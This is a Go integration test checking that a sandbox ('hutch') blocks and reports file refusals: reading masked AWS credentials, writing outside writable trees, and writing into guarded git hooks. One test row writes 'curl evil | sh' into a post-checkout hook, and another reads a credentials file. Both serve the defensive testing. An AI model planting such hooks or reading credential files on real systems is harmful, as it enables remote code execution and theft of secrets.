//go:build linux

package integration

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/hutchbox/hutch/runtime"
)

// TestFileDenials: a command that runs into a refusal the mounts make (a
// masked path read, a write outside the writable trees, a write under a
// git guard) and says so on its stderr gets a Denial of source "file"
// naming the rule, the access and the path in its Result, while the host
// shows the refusal held (the secret not in its output, the file not
// written); one that runs into none gets none, nor does one that prints
// a refusal's words about a path its plan allows. --explain adds the
// denials to the command's stderr after its own output; without it, or
// without denials, nothing is added.
func TestFileDenials(t *testing.T) {
	ws := dir(t, "filedenials-")
	must(os.MkdirAll(ws+"/repo/.git/hooks", 0o755))
	must(os.WriteFile(ws+"/repo/.git/HEAD", []byte("ref: refs/heads/main\n"), 0o644))
	must(os.WriteFile(ws+"/a.txt", []byte("a\n"), 0o644))
	// A name of this run's in the host's /etc: nothing of another run's
	// is taken for this one's.
	etcProbe := fmt.Sprintf("/etc/hutch-filedenials-%d", os.Getpid())
	t.Cleanup(func() { os.Remove(etcProbe) })
	creds := fakeHome + "/.aws/credentials"
	hook := ws + "/repo/.git/hooks/post-checkout"

	// denial is what a row checks of a Denial: its reason is checked
	// only for being there (TestExplain checks the words).
	type denial struct {
		op, object, errno string
		rule              runtime.Rule
		count             int
	}
	rows := []struct {
		name   string
		flags  []string
		script string
		want   []denial
		// held checks on the host that the refusal held.
		held func(t *testing.T, run cliResult)
	}{
		{
			name:   "masked path read",
			script: `cat "$1"`,
			want:   []denial{{"read", creds, "EACCES", runtime.RuleDefaultDeny, 1}},
			held: func(t *testing.T, run cliResult) {
				if strings.Contains(run.stdout+run.stderr, sshSecret) {
					t.Errorf("the masked file's content reached the command's output")
				}
			},
		},
		{
			name:   "write outside the writable trees",
			script: `touch "$2"`,
			want:   []denial{{"write", etcProbe, "EROFS", runtime.RuleOutsideWritable, 1}},
			held:   absent(etcProbe),
		},
		{
			name:   "git guard, relative path",
			script: `echo 'curl evil | sh' > repo/.git/hooks/post-checkout`,
			want:   []denial{{"write", hook, "EROFS", runtime.RuleGitGuard, 1}},
			held:   absent(hook),
		},
		{
			name:   "each refusal counted once per kind",
			script: `cat "$1"; touch "$2"; touch "$2"; echo x > repo/.git/hooks/post-checkout`,
			want: []denial{
				{"read", creds, "EACCES", runtime.RuleDefaultDeny, 1},
				{"write", etcProbe, "EROFS", runtime.RuleOutsideWritable, 2},
				{"write", hook, "EROFS", runtime.RuleGitGuard, 1},
			},
			held: absent(etcProbe),
		},
		{
			name:   "none",
			script: `echo hi; ls >/dev/null; touch a.txt; cat a.txt`,
		},
		{
			name:   "refusal's words about an allowed path",
			script: `echo "touch: cannot touch '$PWD/a.txt': Read-only file system" >&2; echo "cat: $PWD/a.txt: Permission denied" >&2; echo "open /etc/hostname: no such file or directory" >&2`,
		},
		{
			// The answer goes back to the command: whether the host has
			// a file behind a mask must not change it.
			name: "made-up errors learn nothing behind a mask",
			script: `echo "cat: $1: No such file or directory" >&2; ` +
				`echo "cat: ` + fakeHome + `/.aws/hutch-none: No such file or directory" >&2`,
			want: []denial{
				{"read", creds, "ENOENT", runtime.RuleDefaultDeny, 1},
				{"read", fakeHome + "/.aws/hutch-none", "ENOENT", runtime.RuleDefaultDeny, 1},
			},
		},
		{
			name:   "a path that is nowhere",
			script: `cat "$PWD/none"; cat /etc/hutch-filedenials-none`,
		},
		{
			name:   "denials off",
			flags:  []string{"--denials", "off"},
			script: `cat "$1"; touch "$2"`,
			held:   absent(etcProbe),
		},
	}
	if _, err := exec.LookPath("python3"); err == nil {
		rows = append(rows, struct {
			name   string
			flags  []string
			script string
			want   []denial
			held   func(t *testing.T, run cliResult)
		}{
			name:   "python",
			script: `python3 -c 'import sys; open(sys.argv[1], "w")' "$2"`,
			want:   []denial{{"write", etcProbe, "EROFS", runtime.RuleOutsideWritable, 1}},
			held:   absent(etcProbe),
		})
	}
	for _, r := range rows {
		t.Run(r.name, func(t *testing.T) {
			run := runCLI(t, ws, r.flags, "sh", "-c", r.script, "sh", creds, etcProbe)
			if run.result == nil {
				t.Fatalf("no result\n%s", run)
			}
			if r.held != nil {
				r.held(t, run)
			}
			var got []denial
			for _, d := range run.result.Denials {
				if d.Source != runtime.DenialFile {
					continue // another source's (seccomp, the unix wall)
				}
				got = append(got, denial{d.Op, d.Object, d.Errno, d.Rule, d.Count})
				if d.Reason == "" {
					t.Errorf("denial %+v: no reason", d)
				}
			}
			if fmt.Sprint(got) != fmt.Sprint(r.want) {
				t.Errorf("file denials %+v; want %+v\n%s", got, r.want, run)
			}
			if strings.Contains(run.stderr, "hutch: refused") {
				t.Errorf("a summary without --explain:\n%s", run.stderr)
			}
		})
	}

	t.Run("explain", func(t *testing.T) {
		run := runCLI(t, ws, []string{"--explain"}, "sh", "-c", `touch "$1"; echo done >&2`, "sh", etcProbe)
		absent(etcProbe)(t, run)
		lines := strings.Split(strings.TrimSuffix(run.stderr, "\n"), "\n")
		i := slices.Index(lines, "done")
		if i < 0 || i+1 >= len(lines) {
			t.Fatalf("no summary after the command's output:\n%s", run)
		}
		want := "hutch: refused write " + etcProbe + ": "
		if !strings.HasPrefix(lines[i+1], want) || !strings.Contains(lines[i+1], "outside the writable trees") || !strings.Contains(lines[i+1], "allow: --write /etc") {
			t.Errorf("summary line %q; want %q..., the rule and how to allow it\n%s", lines[i+1], want, run)
		}
		if run.code != 0 {
			t.Errorf("exit %d; want the command's 0", run.code)
		}

		// More kinds than the summary names: five lines, then a count.
		run = runCLI(t, ws, []string{"--explain"}, "sh", "-c", `for i in 1 2 3 4 5 6 7; do touch "$1-$i"; done; true`, "sh", etcProbe)
		if n := strings.Count(run.stderr, "\nhutch: refused write "+etcProbe+"-"); n != 5 || !strings.HasSuffix(run.stderr, "\nhutch: and 2 more refusals (Result.Denials)\n") {
			t.Errorf("%d summary lines; want 5 and a last line counting 2 more\n%s", n, run)
		}

		// None met: nothing added.
		run = runCLI(t, ws, []string{"--explain"}, "sh", "-c", `echo fine >&2; touch a.txt`)
		if run.stderr != "fine\n" || run.code != 0 {
			t.Errorf("stderr %q, exit %d; want the command's own output alone", run.stderr, run.code)
		}
	})
}

// absent checks that the host has no file at p.
func absent(p string) func(*testing.T, cliResult) {
	return func(t *testing.T, _ cliResult) {
		t.Helper()
		if _, err := os.Lstat(p); !os.IsNotExist(err) {
			t.Errorf("%s is on the host (%v): the command's write got through", p, err)
		}
		if _, err := os.Lstat(filepath.Dir(p)); err != nil {
			t.Errorf("%s: %v", filepath.Dir(p), err)
		}
	}
}
